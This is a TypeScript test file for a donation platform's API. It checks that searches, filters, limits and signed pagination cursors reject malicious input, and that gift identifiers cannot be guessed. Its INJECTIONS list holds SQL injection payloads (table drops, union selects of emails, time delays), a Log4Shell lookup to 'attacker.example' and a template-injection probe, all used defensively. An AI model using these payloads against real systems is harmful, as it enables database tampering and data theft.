import { sql } from "@careforall/db/client";
import { afterAll, beforeAll, expect, test } from "vitest";
import { type Caller } from "../account/index.ts";
import { LIST_LIMIT_MAX } from "../campaign/index.ts";
import { sealCursor, writeCursor } from "../cursor/index.ts";
import { listReviews } from "../held/index.ts";
import { listOwnGifts } from "../own-gifts/index.ts";
import { listAudit, listStaff, zListAudit } from "../staff/index.ts";
import {
  createPerson,
  createTestContext,
  giveGift,
  noLimits,
  promiseGift,
  signInAs,
} from "../testing/index.ts";
import { settleConsumers } from "../outbox/index.ts";
import { handleRest } from "./handle-rest.ts";

// What people type into searches, filters, orders and places of lists.

const bench = await createTestContext();
const { ctx } = bench;
const { slug } = bench.campaign;
const GIFTS = `/campaigns/${slug}/donations`;
let caller: Caller;
beforeAll(async () => {
  caller = await signInAs(ctx, await createPerson(ctx));
  await giveGift(bench);
  await settleConsumers(ctx);
});
afterAll(bench.drop);

/** As the tools of attackers try them: quotes, comments, stacked statements, unions, delays, casts, escapes. */
const INJECTIONS = [
  "'",
  "''",
  "' or '1'='1",
  "' or 1=1--",
  '" or ""="',
  "') or ('1'='1",
  "'; drop table pledge; --",
  "'; update campaign set goal_minor = 1; --",
  "' union select email, null from user_account --",
  "' and (select pg_sleep(9)) is null --",
  "1; select pg_sleep(9)",
  "' || (select version()) || '",
  "$$; drop table pledge; $$",
  "\\'; drop table pledge; --",
  "%27%20or%201=1",
  "%' or '%'='",
  "x' and 1=cast((select token from pledge limit 1) as int) --",
  "/*!50000union*/ select 1",
  "created_at; drop table pledge",
  "raised desc, (select 1)",
  "${jndi:ldap://attacker.example/x}",
  "{{7*7}}",
  "'\u0027\u02BC\uFF07",
];

/** Of PostgreSQL's text search, patterns and regular expressions. */
const OPERATORS = [
  "zq & !",
  ":*",
  "zq:*",
  "!!!",
  "zq | | qz",
  "(((",
  ")))",
  "<-> zq",
  "zq <2> qz",
  "'zq' & 'qz",
  "%",
  "_",
  "%%%%%%%%%%",
  "\\",
  "\\\\\\",
  "[q-z]*",
  ".*",
  "(q+)+$",
  "*",
  "?",
  "~",
  "\u0301",
  "\u202Ezq",
];

const get = async (path: string, query: Record<string, string>) => {
  const { status, text } = await handleRest(
    {
      ...ctx,
      header: () => null,
      clientAddress: null,
      device: null,
      limits: noLimits,
      readCaller: () => Promise.resolve(null),
    },
    { method: "GET", path, query: new URLSearchParams(query), body: null },
  );
  const { data } = JSON.parse(text) as { data?: readonly unknown[] };
  return { status, count: data?.length ?? 0, text };
};

const INPUTS = [
  ["/campaigns", "q"],
  ["/campaigns", "kind"],
  ["/campaigns", "locale"],
  ["/campaigns", "limit"],
  ["/campaigns", "after"],
  ["/campaigns/top", "by"],
  ["/campaigns/top", "currency"],
  [`/campaigns/${slug}/donations`, "after"],
  [`/campaigns/${slug}/donations`, "limit"],
] as const;

const books = () =>
  ctx.db.query(
    sql`select (select count(*) from pledge) as pledges, (select count(*) from user_account) as people,
               (select sum(goal_minor) from campaign) as goals`,
  );

test.each(INPUTS)("S-83: S-84: %s?%s takes words as words: 400 or nothing found", async (path, name) => {
  const before = await books();
  for (const words of [...INJECTIONS, ...OPERATORS]) {
    const { status, count, text } = await get(path, { [name]: words });
    expect([words, [200, 400].includes(status), count]).toEqual([words, true, 0]);
    expect(text).not.toMatch(/syntax|SELECT|pg_|relation|column/);
  }
  expect(await books()).toEqual(before);
});

test("S-83: S-84: searches of one's own gifts and of the audit log take words as words", async () => {
  await promiseGift(bench);
  const before = await books();
  for (const words of [...INJECTIONS, ...OPERATORS]) {
    expect((await listOwnGifts(ctx, { search: words }, caller)).items).toEqual([]);
    for (const field of ["action", "subject", "actor"] as const)
      expect((await listAudit(ctx, zListAudit.parse({ [field]: words }))).items).toEqual([]);
    await expect(listOwnGifts(ctx, { after: words }, caller)).rejects.toMatchObject({
      code: "input.invalid_cursor",
    });
    await expect(listAudit(ctx, { after: words })).rejects.toMatchObject({
      code: "input.invalid_cursor",
    });
  }
  expect(await books()).toEqual(before);
});

test("S-97: lists are bounded: more than a hundred, none, fewer and a half are refused", async () => {
  for (const path of ["/campaigns", "/campaigns/top", `/campaigns/${slug}/donations`]) {
    for (const limit of ["101", "1000000", "0", "-1", "1.5", "1e9", "", "NaN"])
      expect([path, limit, (await get(path, { limit })).status]).toEqual([path, limit, 400]);
    expect((await get(path, { limit: `${LIST_LIMIT_MAX}` })).status).toBe(200);
  }
  for (const limit of [0, 101, 1.5]) {
    await expect(listOwnGifts(ctx, { limit }, caller)).rejects.toMatchObject({ name: "ZodError" });
  }
  // There is no offset: a list goes on after a row, which costs the same on every page.
  for (const offset of ["offset", "page", "skip"])
    expect((await get("/campaigns", { [offset]: "10001" })).status).toBe(400);
});

test("S-97: a cursor is signed for its list: one that is cut, mixed, too long, of another list or of somebody's own making is refused", async () => {
  const place = { createdAt: new Date(), id: ctx.newId() };
  const lists = { "/campaigns": { name: "campaigns" }, [GIFTS]: { name: "public_gifts", of: slug } } as const;
  for (const [path, list] of Object.entries(lists)) {
    const whole = writeCursor(ctx, list, place);
    expect((await get(path, { after: whole })).status).toBe(200);
    const wrong = [
      whole.slice(0, -6),
      whole.slice(3),
      `${whole}${whole}`,
      "A".repeat(121),
      "1",
      "2026-11-21",
      Buffer.from("{}").toString("base64url"),
      Buffer.from(`${place.createdAt.toISOString()} ${place.id}`).toString("base64url"),
      ...Object.values(lists).flatMap((other) => (other === list ? [] : [writeCursor(ctx, other, place)])),
      writeCursor(ctx, { name: "public_gifts", of: "another-campaign" }, place),
    ];
    for (const after of wrong)
      expect([path, after, (await get(path, { after })).status]).toEqual([path, after, 400]);
  }
});

test("S-97: nobody goes on in somebody else's list, nor staff in a list of theirs by a cursor of another", async () => {
  const place = { createdAt: new Date(), id: ctx.newId() };
  const cursorOf = (of: string) => writeCursor(ctx, { name: "own_gifts", of }, place);
  const refusal = { code: "input.invalid_cursor" };
  expect((await listOwnGifts(ctx, { after: cursorOf(caller.userId) }, caller)).items).toEqual([]);
  await expect(listOwnGifts(ctx, { after: cursorOf(ctx.newId()) }, caller)).rejects.toMatchObject(refusal);
  const seventh = sealCursor(ctx, { name: "audit" }, "7");
  expect((await listAudit(ctx, { after: seventh })).next).toBeNull();
  for (const after of ["7", sealCursor(ctx, { name: "staff" }, "7")])
    await expect(listAudit(ctx, { after })).rejects.toMatchObject(refusal);
  await expect(listStaff(ctx, { after: seventh })).rejects.toMatchObject(refusal);
  await expect(listReviews(ctx, { after: seventh })).rejects.toMatchObject(refusal);
});

test("S-100: what names a gift in public cannot be counted or guessed from another", async () => {
  const gifts = [await promiseGift(bench), await promiseGift(bench), await promiseGift(bench)];
  for (const { token } of gifts) expect(token).toMatch(/^[\w-]{22}$/);
  const starts = new Set(gifts.map(({ token }) => token.slice(0, 8)));
  expect(starts.size).toBe(gifts.length);
  for (const number of ["1", "2", "000001", "2026-000001"]) {
    expect((await get(`/pledges/${number}`, {})).status).toBeGreaterThanOrEqual(400);
    expect((await get(`/campaigns/${number}`, {})).status).toBe(404);
  }
  const { text } = await get(`/campaigns/${slug}/donations`, {});
  const { data } = JSON.parse(text) as { data: readonly Record<string, unknown>[] };
  expect(data.length).toBeGreaterThan(0);
  for (const gift of data) {
    // Random in every bit (version 4): not even the order of gifts is in it.
    expect(gift["id"]).toMatch(/^[\da-f]{8}-[\da-f]{4}-4[\da-f]{3}-/);
    expect(Object.keys(gift)).not.toContain("reference");
  }
});
